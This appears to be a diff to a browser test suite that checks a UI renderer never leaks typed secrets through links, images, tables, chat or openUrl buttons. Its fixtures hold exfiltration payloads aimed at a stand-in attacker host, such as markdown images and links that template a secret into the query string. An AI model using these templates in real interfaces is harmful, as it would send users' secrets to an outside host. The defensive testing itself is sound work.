@@ -16,6 +16,12 @@ const list = (id: string, child: string, path: string) => ({
   component: "List",
   children: { componentId: child, path },
 });
+const opener = (id: string, url: unknown) => ({
+  id,
+  component: "Button",
+  child: `${id}Word`,
+  action: { functionCall: { call: "openUrl", args: { url } } },
+});
 const records = { rows: { path: "/context/list" }, titleField: "url" };
 const column = { field: "url", label: "U", format: "image" };
 const parts = [
@@ -58,13 +64,69 @@ const parts = [
     component: "Text",
     text: { call: "formatString", args: { value: `![x](${EVIL}/?q=\${/context/secret})` } },
   },
+  // Links.
   {
-    id: "link",
+    id: "links",
     component: "KeyValue",
-    items: [{ label: "l", value: { path: "/context/url" }, format: "url" }],
+    items: [
+      { label: "l", value: { path: "/context/url" }, format: "url" },
+      { label: "m", value: template("/context/secret"), format: "url" },
+      { label: "n", value: { path: "/context/mail" }, format: "email" },
+      { label: "o", value: { path: "/context/written" }, format: "markdown" },
+    ],
   },
+  {
+    id: "linkText",
+    component: "Text",
+    text: { call: "formatString", args: { value: `[x](${EVIL}/?q=\${/context/secret})` } },
+  },
+  { id: "linkHead", component: "Text", variant: "h2", text: { path: "/context/written" } },
+  {
+    id: "linkProp",
+    component: "Text",
+    text: { call: "formatString", args: { value: { path: "/props/link" } } },
+  },
+  list("linkList", "linkItem", "/context/list"),
+  { id: "linkItem", component: "Text", text: `[x](${EVIL}/pixel)` },
+  {
+    id: "linkTable",
+    component: "Table",
+    ...records,
+    columns: ["url", "email", "markdown", "record"].map((format) => ({
+      field: { email: "mail", markdown: "written", record: "more" }[format] ?? "url",
+      label: format,
+      format,
+      parts: format === "record" ? [{ field: "url", label: "U", format: "url" }] : undefined,
+    })),
+  },
+  // What a slot says of records that were given.
+  {
+    id: "changed",
+    component: "Cards",
+    rows: { path: "/props/rows" },
+    key: "id",
+    changes: { path: "/context/list" },
+    titleField: "id",
+    imageField: "url",
+    columns: [{ field: "url", label: "U", format: "url" }],
+  },
+  { id: "poll", component: "Poll", ...records, key: "id", titleField: "url", titleFormat: "url" },
+  { id: "chat", component: "Chat", ...records, textField: "written", authorField: "id" },
+  {
+    id: "matrix",
+    component: "Matrix",
+    rows: { path: "/context/list" },
+    rowField: "id",
+    columnField: "id",
+    valueField: "url",
+    format: "url",
+  },
+  opener("opens", template("/context/secret")),
+  { id: "opensWord", component: "Text", text: "Open opens" },
+  opener("opensSlot", { path: "/context/url" }),
+  { id: "opensSlotWord", component: "Text", text: "Open opensSlot" },
 ];
-const inTemplates = ["item", "pixel", "inner"];
+const inTemplates = ["item", "pixel", "inner", "linkItem", "opensWord", "opensSlotWord"];
 
 describe.skipIf(!isThere)("the addresses of a view", () => {
   const browser = browserFor(guestCode);
@@ -72,7 +134,13 @@ describe.skipIf(!isThere)("the addresses of a view", () => {
   it(
     "never carry what is typed, letter by letter or all at once",
     async () => {
-      const entry = { url: `${EVIL}/record`, more: [{ url: `${EVIL}/inner` }] };
+      const entry = {
+        id: "one",
+        url: `${EVIL}/record`,
+        mail: "record@evil.example",
+        written: `**Record** [record](${EVIL}/record)`,
+        more: [{ url: `${EVIL}/inner` }],
+      };
       const { page, requested, errors } = await show(browser(), {
         components: [
           {
@@ -82,10 +150,16 @@ describe.skipIf(!isThere)("the addresses of a view", () => {
           },
           ...parts,
         ],
-        props: { template: `${EVIL}/?q=\${/context/secret}` },
+        props: {
+          template: `${EVIL}/?q=\${/context/secret}`,
+          link: `[x](${EVIL}/?q=\${/context/secret})`,
+          rows: [{ id: "one" }],
+        },
         context: {
           secret: "hunter1",
           url: `${EVIL}/slot`,
+          mail: "slot@evil.example",
+          written: `**Slot** [slot](${EVIL}/slot)`,
           list: [entry],
           tree: [entry],
         },
@@ -93,6 +167,27 @@ describe.skipIf(!isThere)("the addresses of a view", () => {
       await page.getByLabel("Secret").pressSequentially("hunter2");
       await page.getByLabel("Other").pressSequentially("hunter3");
       await responds(page);
+      await page.evaluate(() => {
+        const opened: string[] = [];
+        Object.assign(globalThis, { opened, open: (url: string) => void opened.push(url) });
+      });
+      for (const name of ["Open opens", "Open opensSlot"])
+        await page.getByRole("button", { name, exact: true }).click();
+      expect(
+        await page.evaluate(() => (globalThis as unknown as { opened: string[] }).opened),
+      ).toEqual([`${EVIL}/?q=`]);
+      // What is typed is shown as it is, without a link.
+      expect(
+        await page
+          .locator("a[href]")
+          .evaluateAll((links) =>
+            links
+              .map((link) => (link as HTMLAnchorElement).href)
+              .filter((url) => /hunter|slot|record|inner|pixel/.test(url)),
+          ),
+      ).toEqual([]);
+      expect(await page.locator(".g-table, table").first().textContent()).toContain("record");
+      expect(await page.locator(".g-chat strong", { hasText: "Record" }).count()).toBe(1);
       expect(requested.filter((url) => url.includes("evil"))).toEqual(
         // Without what is typed they are addresses like any other.
         requested.filter((url) => url === `${EVIL}/?q=` || url === `${EVIL}/long`),
@@ -118,7 +213,26 @@ describe.skipIf(!isThere)("the addresses of a view", () => {
       const given = "https://img.example/a.png";
       const { page, requested } = await show(browser(), {
         components: [
-          { id: "root", component: "Column", children: ["image", "facts", "cards"] },
+          {
+            id: "root",
+            component: "Column",
+            children: ["image", "facts", "cards", "page", "text", "opens"],
+          },
+          {
+            id: "page",
+            component: "KeyValue",
+            items: [{ label: "p", value: { path: "/props/page" }, format: "url" }],
+          },
+          {
+            id: "text",
+            component: "Text",
+            text: {
+              call: "formatString",
+              args: { value: "[${/props/title}](${/props/page}) ${/context/none}" },
+            },
+          },
+          opener("opens", { path: "/props/page" }),
+          { id: "opensWord", component: "Text", text: "Open" },
           image("image", { path: "/props/url" }),
           {
             id: "facts",
@@ -133,16 +247,29 @@ describe.skipIf(!isThere)("the addresses of a view", () => {
             imageField: "url",
           },
         ],
-        props: { url: given, rows: [{ title: "One", url: given }] },
+        props: {
+          url: given,
+          page: "https://page.example/",
+          title: "One",
+          rows: [{ title: "One", url: given }],
+        },
       });
       for (const part of ["image", "keyvalue", "cards"])
-        await page.locator(`.g-${part}:is(a), .g-${part} a`).waitFor();
+        await page.locator(`.g-${part}:is(a), .g-${part} a`).first().waitFor();
       expect(new Set(requested)).toContain(given);
       expect(
         await page
           .locator("a")
           .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)),
-      ).toEqual([given, given, given]);
+      ).toEqual([given, given, given, "https://page.example/", "https://page.example/"]);
+      await page.evaluate(() => {
+        const opened: string[] = [];
+        Object.assign(globalThis, { opened, open: (url: string) => void opened.push(url) });
+      });
+      await page.getByRole("button", { name: "Open" }).click();
+      expect(
+        await page.evaluate(() => (globalThis as unknown as { opened: string[] }).opened),
+      ).toEqual(["https://page.example/"]);
       expect(await page.locator("img").count()).toBe(0);
       await page.close();
     },
